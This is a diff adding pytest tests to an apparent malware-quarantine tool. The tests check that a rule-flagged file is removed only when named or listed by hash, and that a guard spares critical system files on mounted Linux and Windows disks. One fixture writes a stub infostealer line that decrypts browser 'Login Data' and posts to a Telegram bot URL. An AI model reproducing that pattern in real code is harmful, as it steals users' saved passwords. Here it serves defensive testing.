@@ -101,6 +101,29 @@ def test_known_good_is_left_alone(planted: Path, tmp_path: Path) -> None:
     assert (planted / "bad.com").exists()
 
 
+def test_a_file_that_only_a_rule_accuses_is_taken_only_by_name(tmp_path: Path) -> None:
+    planted = tmp_path / "planted"
+    planted.mkdir()
+    script = planted / "collect.py"
+    script.write_bytes(
+        b"win32crypt.CryptUnprotectData(x); open('Login Data'); post('https://api.telegram.org/bot1:x')"
+    )
+    words = ("scan", planted, "--jobs", 0, "--no-nice", "--quarantine", "--yes")
+    ran = lamsach(*words)
+    assert "--take" in ran.out
+    assert script.exists()
+    digest = tmp_path / "list.txt"
+    digest.write_text(target_of(script).sha256 + "\n")
+    assert lamsach(*words, "--take", script).out.count(script.name) > 0
+    assert not script.exists()
+    script.write_bytes(
+        b"win32crypt.CryptUnprotectData(y); open('Login Data'); post('https://api.telegram.org/bot1:x')"
+    )
+    digest.write_text(target_of(script).sha256 + "\n")
+    lamsach(*words, "-i", digest)  # the list states its digest: that needs no name
+    assert not script.exists()
+
+
 @pytest.mark.skipif(sys.platform != "linux", reason="Linux paths")
 @pytest.mark.parametrize(
     ("path", "refusal"),
@@ -118,6 +141,40 @@ def test_guard_of_files(tmp_path: Path, path: str, refusal: str | None) -> None:
     guard = Guard(dpkg=tmp_path)
     found = guard.refusal(Target(TargetKind.FILE, path))
     assert found == refusal or (path == sys.executable and found in ("own_file", "owned", None))
+
+
+@pytest.mark.skipif(sys.platform != "linux", reason="Linux paths")
+def test_guard_of_another_systems_disk(tmp_path: Path) -> None:
+    """A disk that is mounted somewhere, or an image: its own system's files are left alone by its own list of packages."""
+    disk = tmp_path / "disk"
+    info = disk / "var/lib/dpkg/info"
+    info.mkdir(parents=True)
+    (info / "a.list").write_text("/.\n/usr/bin/own\n")
+    left_alone = [
+        "etc/passwd", "etc/shadow", "etc/pam.d/common-auth", "etc/pam.conf", "etc/ssl/certs/ca-certificates.crt",
+        "var/lib/dpkg/status", "var/lib/apt/lists/x", "etc/apt/sources.list", "etc/sudoers", "etc/sudoers.d/admin",
+        "etc/systemd/system/x.service", "lib/systemd/system/ssh.service", "etc/nsswitch.conf", "etc/hosts",
+        "lib/x86_64-linux-gnu/libnss_files.so.2", "usr/lib/security/pam_unix.so", "boot/vmlinuz", "usr/bin/own",
+    ]  # fmt: skip
+    windows = tmp_path / "windows"
+    also = [
+        "Windows/System32/config/SAM", "Windows/explorer.exe", "bootmgr", "Boot/BCD", "EFI/Microsoft/x.efi", "pagefile.sys",
+        "Users/an/NTUSER.DAT", "ProgramData/Microsoft/Crypto/RSA/x", "System Volume Information/x",
+    ]  # fmt: skip
+    taken = [
+        disk / "tmp/x",
+        disk / "usr/bin/other",
+        disk / "home/an/Downloads/x",
+        windows / "Windows/Temp/x.exe",
+    ]
+    taken.append(windows / "Users/an/Downloads/x.exe")
+    places = [*(disk / one for one in left_alone), *(windows / one for one in also), *taken]
+    for place in places:
+        place.parent.mkdir(parents=True, exist_ok=True)
+        place.write_bytes(b"x")
+    guard = Guard(dpkg=tmp_path / "none")
+    free = [place for place in places if guard.refusal(Target(TargetKind.FILE, str(place))) is None]
+    assert free == taken
 
 
 @pytest.mark.skipif(sys.platform != "linux", reason="Linux processes")
